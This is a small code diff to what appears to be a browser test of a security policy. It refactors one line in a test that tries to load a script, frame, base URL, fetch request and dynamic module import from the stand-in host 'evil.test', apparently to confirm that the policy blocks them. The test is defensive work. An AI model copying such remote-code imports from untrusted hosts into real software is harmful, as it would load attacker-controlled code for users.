@@ -86,7 +86,8 @@ test.describe('the policy', () => {
       base.href = 'https://evil.test/';
       document.body.append(script, frame, base);
       await fetch('https://evil.test/').catch(() => undefined);
-      await import('https://evil.test/module.js' as string).catch(() => undefined);
+      const address: string = 'https://evil.test/module.js';
+      await import(address).catch(() => undefined);
       try {
         new Worker(URL.createObjectURL(new Blob(['']))).terminate();
       } catch {
